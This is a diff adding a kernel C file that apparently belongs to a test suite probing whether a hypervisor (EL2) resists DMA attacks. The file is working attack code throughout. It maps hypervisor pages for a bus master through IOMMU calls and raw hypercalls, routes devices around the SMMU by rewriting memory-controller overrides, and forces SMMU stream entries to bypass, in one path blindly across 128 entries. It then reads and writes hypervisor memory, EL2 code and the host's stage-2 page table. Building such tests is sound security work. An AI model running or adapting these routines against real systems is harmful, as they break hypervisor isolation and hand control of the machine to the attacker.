@@ -1,0 +1,401 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * DMA to what belongs to EL2: each target by each way.
+ *
+ * A way makes a physical address reachable for the bus master, or is refused;
+ * it says at which bus address. A target knows how to show that it was reached.
+ */
+#include <linux/iommu.h>
+#include <linux/random.h>
+#include <linux/slab.h>
+
+#include "attack.h"
+
+struct iommu_domain *bm_domain(void)
+{
+	return iommu_get_domain_for_dev(bm_device(bm));
+}
+
+/* --- ways --------------------------------------------------------------- */
+
+struct way {
+	const char *name;
+	/*
+	 * Returns 0 and the bus address, or -ENOSYS: there is no such way here,
+	 * or what refused it. @phys is a whole page.
+	 */
+	int (*open)(phys_addr_t phys, u64 *addr);
+	void (*close)(phys_addr_t phys);
+	const char *refusal;
+};
+
+static int map_open(phys_addr_t phys, u64 *addr)
+{
+	*addr = ATTACK_IOVA;
+	return iommu_map(bm_domain(), ATTACK_IOVA, phys, PAGE_SIZE, IOMMU_READ | IOMMU_WRITE,
+			 GFP_KERNEL);
+}
+
+static void map_close(phys_addr_t phys)
+{
+	iommu_unmap(bm_domain(), ATTACK_IOVA, PAGE_SIZE);
+}
+
+static int hypercall_open(phys_addr_t phys, u64 *addr)
+{
+	int handle = bm_domain_handle();
+
+	if (handle < 0)
+		return handle;
+	*addr = ATTACK_IOVA;
+	return hyp_map(handle, ATTACK_IOVA, phys, PAGE_SIZE, 1, IOMMU_READ | IOMMU_WRITE);
+}
+
+static void hypercall_close(phys_addr_t phys)
+{
+	hyp_unmap(bm_domain_handle(), ATTACK_IOVA, PAGE_SIZE, 1);
+}
+
+/* The physical address itself: reaches it if nothing translates. */
+static int direct_open(phys_addr_t phys, u64 *addr)
+{
+	*addr = phys;
+	return 0;
+}
+
+static void direct_close(phys_addr_t phys)
+{
+}
+
+/* Have the memory controller give the client the stream ID that goes around the SMMU. */
+static u32 mc_saved[2];
+
+static int mc_open(phys_addr_t phys, u64 *addr)
+{
+	u32 client[2] = { bm_info.client_read, bm_info.client_write };
+	int i, ret;
+
+	if (!mc_sid_base || client[0] == BM_AS_DESCRIBED)
+		return -ENOSYS;
+	*addr = phys;
+	for (i = 0; i < 2; i++) {
+		/* What cannot be read may still be written. */
+		if (read32(mc_sid_base + MC_OVERRIDE(client[i]), &mc_saved[i]))
+			mc_saved[i] = 0;
+		ret = write32(mc_sid_base + MC_OVERRIDE(client[i]), MC_SID_PASSTHROUGH);
+		if (ret)
+			return ret;
+	}
+	return 0;
+}
+
+static void mc_close(phys_addr_t phys)
+{
+	/* Both may be the same client: undo in the opposite order. */
+	write32(mc_sid_base + MC_OVERRIDE(bm_info.client_write), mc_saved[1]);
+	if (bm_info.client_read != bm_info.client_write)
+		write32(mc_sid_base + MC_OVERRIDE(bm_info.client_read), mc_saved[0]);
+}
+
+/* Turn the stream's entry of the SMMU to bypass, in both instances. */
+#define SMMU_ID0		0x20
+#define SMMU_ID0_NUMSMRG	0xff
+#define SMMU_SMR(n)		(0x800 + (n) * 4)
+#define SMMU_SMR_VALID		BIT(31)
+#define SMMU_S2CR(n)		(0xc00 + (n) * 4)
+#define SMMU_S2CR_TYPE		GENMASK(17, 16)
+#define SMMU_S2CR_TYPE_BYPASS	BIT(16)
+
+static u32 s2cr_index, s2cr_saved;
+
+static int find_smr(phys_addr_t base, u32 sid)
+{
+	u32 i, id0, smr;
+	int ret;
+
+	ret = read32(base + SMMU_ID0, &id0);
+	if (ret)
+		return ret;
+	for (i = 0; i < (id0 & SMMU_ID0_NUMSMRG); i++) {
+		ret = read32(base + SMMU_SMR(i), &smr);
+		if (ret)
+			return ret;
+		if ((smr & SMMU_SMR_VALID) && !((smr ^ sid) & 0x7fff & ~(smr >> 16)))
+			return i;
+	}
+	return -ENOENT;
+}
+
+static int smmu_write_s2cr(u32 value)
+{
+	unsigned int i;
+	int ret = 0;
+
+	for (i = 0; i < bm_smmu->nr_instances; i++)
+		ret = write32(bm_smmu->base[i] + SMMU_S2CR(s2cr_index), value) ?: ret;
+	return ret;
+}
+
+static int smmu_open(phys_addr_t phys, u64 *addr)
+{
+	unsigned int i;
+	int n, ret;
+
+	if (!bm_smmu)
+		return -ENOSYS;
+	*addr = phys;
+
+	n = find_smr(bm_smmu->base[0], bm_info.sid);
+	if (n < 0) {
+		/* Blind: what cannot be read may still be written. */
+		for (i = 0; i < 128; i++) {
+			s2cr_index = i;
+			ret = smmu_write_s2cr(SMMU_S2CR_TYPE_BYPASS);
+			if (ret)
+				return ret;
+		}
+		return 0;
+	}
+	s2cr_index = n;
+	ret = read32(bm_smmu->base[0] + SMMU_S2CR(s2cr_index), &s2cr_saved);
+	if (ret)
+		return ret;
+	return smmu_write_s2cr((s2cr_saved & ~SMMU_S2CR_TYPE) | SMMU_S2CR_TYPE_BYPASS);
+}
+
+static void smmu_close(phys_addr_t phys)
+{
+	smmu_write_s2cr(s2cr_saved);
+}
+
+enum { WAY_MAP, WAY_HYPERCALL, WAY_DIRECT, WAY_MC, WAY_SMMU };
+
+static const struct way ways[] = {
+	[WAY_MAP] = { "map", map_open, map_close, "iommu_map() is refused" },
+	[WAY_HYPERCALL] = { "hypercall", hypercall_open, hypercall_close, "the hypercall is refused" },
+	[WAY_DIRECT] = { "direct", direct_open, direct_close, "" },
+	[WAY_MC] = { "mc", mc_open, mc_close, "the write to the memory controller is refused" },
+	[WAY_SMMU] = { "smmu", smmu_open, smmu_close, "the write to the SMMU is refused" },
+};
+
+/*
+ * The way works for a page of the host's own, where it is meant to: the maps.
+ * A way through registers is its own control, it ends in an abort or not.
+ */
+static int control(const struct way *w, struct outcome *o)
+{
+	struct page *page;
+	int ret = -EIO;
+	u64 addr, data = get_random_u64(), got = 0;
+
+	if (w != &ways[WAY_MAP] && w != &ways[WAY_HYPERCALL])
+		return 0;
+
+	page = alloc_page(GFP_KERNEL | __GFP_ZERO);
+	if (!page)
+		return -ENOMEM;
+	ret = w->open(page_to_phys(page), &addr);
+	if (ret == -ENOSYS) {
+		is_na(o, "the kernel has no such hypercall");
+	} else if (ret) {
+		is_broken(o, "not even a page of the host's own: error %d", ret);
+	} else {
+		if (!dma(addr, true, &data, 8) || *(volatile u64 *)page_address(page) != data ||
+		    !dma(addr, false, &got, 8) || got != data) {
+			is_broken(o, "a page of the host's own is mapped but not reached");
+			ret = -EIO;
+		}
+		w->close(page_to_phys(page));
+	}
+	__free_page(page);
+	return ret;
+}
+
+/* --- targets ------------------------------------------------------------ */
+
+struct target {
+	const char *name;
+	phys_addr_t (*find)(const struct way *w);
+	/* true if @addr leads there */
+	bool (*reached)(u64 addr, phys_addr_t phys, struct outcome *o, const char *way);
+};
+
+/* Nobody uses it: write, read back, restore. */
+static phys_addr_t find_spare(const struct way *w)
+{
+	return hyp_spare_page();
+}
+
+static bool reached_spare(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
+{
+	u64 old[2], mark[2], now[2];
+
+	get_random_bytes(mark, sizeof(mark));
+	if (!dma(addr, false, old, sizeof(old)))
+		return false;
+	if (!dma(addr, true, mark, sizeof(mark))) {
+		is_open(o, "%s: hypervisor page %#llx was read", way, phys);
+		return true;
+	}
+	if (!dma(addr, false, now, sizeof(now)) || memcmp(now, mark, sizeof(mark))) {
+		is_broken(o, "%s: written and read back, but not the same", way);
+		return true;
+	}
+	dma(addr, true, old, sizeof(old));
+	is_open(o, "%s: hypervisor page %#llx was read, written and read back", way, phys);
+	return true;
+}
+
+/* The host may read EL2's code, so that it can tell what DMA must bring. */
+static phys_addr_t find_text(const struct way *w)
+{
+	return hyp_text_page();
+}
+
+static bool reached_text(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
+{
+	u64 word;
+
+	if (!dma(addr, false, &word, 8))
+		return false;
+	if (word != *(volatile u64 *)phys_to_virt(phys)) {
+		is_broken(o, "%s: other bytes than the CPU reads", way);
+		return true;
+	}
+	if (!dma(addr, true, &word, 8)) {
+		is_stopped(o, "%s: EL2's code was read, which the host may, and not written", way);
+		return true;
+	}
+	is_open(o, "%s: EL2's code at %#llx was written", way, phys);
+	return true;
+}
+
+/*
+ * The host's own stage-2 table: who writes it owns the machine. Its address is
+ * in EL2's data, which has to be read by DMA first.
+ */
+static phys_addr_t find_stage2(const struct way *w)
+{
+	phys_addr_t at = hyp_stage2_pointer();
+	u64 addr, pgd = 0;
+
+	if (!at || w->open(at & PAGE_MASK, &addr))
+		return 0;
+	if (!dma(addr + offset_in_page(at), false, &pgd, 8))
+		pgd = 0;
+	w->close(at & PAGE_MASK);
+	return pgd & PAGE_MASK;
+}
+
+static bool reached_stage2(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
+{
+	static u64 table[PTRS_PER_PTE];
+	int i, tables = 0;
+
+	if (!dma(addr, false, table, sizeof(table)))
+		return false;
+	for (i = 0; i < PTRS_PER_PTE; i++)
+		tables += (table[i] & 3) == 3;
+	for (i = 0; i < PTRS_PER_PTE && (table[i] & 3) != 3; i++)
+		;
+	if (!tables) {
+		is_broken(o, "%s: %#llx was read but is no table", way, phys);
+		return true;
+	}
+	if (!dma(addr + i * 8, true, &table[i], 8)) {
+		is_open(o, "%s: the host's stage-2 table at %#llx was read", way, phys);
+		return true;
+	}
+	is_open(o, "%s: the host's stage-2 table at %#llx was read and written, %d entries", way,
+		phys, tables);
+	return true;
+}
+
+enum { TARGET_SPARE, TARGET_TEXT, TARGET_STAGE2 };
+
+static const struct target targets[] = {
+	[TARGET_SPARE] = { "hypervisor page", find_spare, reached_spare },
+	[TARGET_TEXT] = { "hypervisor code", find_text, reached_text },
+	[TARGET_STAGE2] = { "host stage-2 table", find_stage2, reached_stage2 },
+};
+
+/* --- attacks ------------------------------------------------------------ */
+
+#define TRY(target, way)	(TARGET_##target << 8 | WAY_##way)
+
+static void attack_dma(struct outcome *o, unsigned long data, const char *arg)
+{
+	const struct target *t = &targets[data >> 8];
+	const struct way *w = &ways[data & 0xff];
+	phys_addr_t phys;
+	u64 addr;
+	int ret;
+
+	if (!bm) {
+		is_na(o, "the machine has no programmable bus master");
+		return;
+	}
+	phys = hyp_spare_page();
+	if (!phys) {
+		is_na(o, "EL2 has no memory of its own");
+		return;
+	}
+	if (host_may_read(phys)) {
+		is_na(o, "EL2 does not keep the host's CPU from %#llx either", phys);
+		return;
+	}
+	if (control(w, o))
+		return;
+
+	phys = t->find(w);
+	if (!phys) {
+		/* Only EL2's data tell where it is, and DMA did not reach them. */
+		is_stopped(o, "DMA did not find out where it is");
+		return;
+	}
+
+	ret = w->open(phys, &addr);
+	if (ret == -ENOSYS) {
+		is_na(o, "the machine does not have this way");
+		return;
+	}
+	if (ret) {
+		/* Refused; but is it so? The bus address must lead nowhere. */
+		if (!t->reached(addr, phys, o, w->name))
+			is_stopped(o, "%s (%d), and DMA to it aborts", w->refusal, ret);
+		return;
+	}
+	if (!t->reached(addr, phys, o, w->name))
+		is_stopped(o, "the DMA aborts");
+	w->close(phys);
+}
+
+const struct attack dma_attacks[] = {
+	{ "dma-hyp-map", "map a hypervisor page for a device, DMA to it",
+	  attack_dma, TRY(SPARE, MAP) },
+	{ "dma-hyp-hypercall", "the same past the host's driver, by a raw hypercall",
+	  attack_dma, TRY(SPARE, HYPERCALL) },
+	{ "dma-hyp-direct", "DMA to a hypervisor page by its physical address",
+	  attack_dma, TRY(SPARE, DIRECT) },
+	{ "dma-hyp-mc", "send a client around the SMMU, DMA to a hypervisor page",
+	  attack_dma, TRY(SPARE, MC) },
+	{ "dma-hyp-smmu", "turn a stream to bypass, DMA to a hypervisor page",
+	  attack_dma, TRY(SPARE, SMMU) },
+	{ "dma-text-map", "map EL2's code for a device, write to it",
+	  attack_dma, TRY(TEXT, MAP) },
+	{ "dma-text-hypercall", "the same by a raw hypercall",
+	  attack_dma, TRY(TEXT, HYPERCALL) },
+	{ "dma-text-mc", "write EL2's code around the SMMU",
+	  attack_dma, TRY(TEXT, MC) },
+	{ "dma-text-smmu", "write EL2's code through a stream in bypass",
+	  attack_dma, TRY(TEXT, SMMU) },
+	{ "dma-table-map", "map the host's stage-2 table for a device, write to it",
+	  attack_dma, TRY(STAGE2, MAP) },
+	{ "dma-table-hypercall", "the same by a raw hypercall",
+	  attack_dma, TRY(STAGE2, HYPERCALL) },
+	{ "dma-table-mc", "write the host's stage-2 table around the SMMU",
+	  attack_dma, TRY(STAGE2, MC) },
+	{ "dma-table-smmu", "write the host's stage-2 table through a stream in bypass",
+	  attack_dma, TRY(STAGE2, SMMU) },
+	{ }
+};
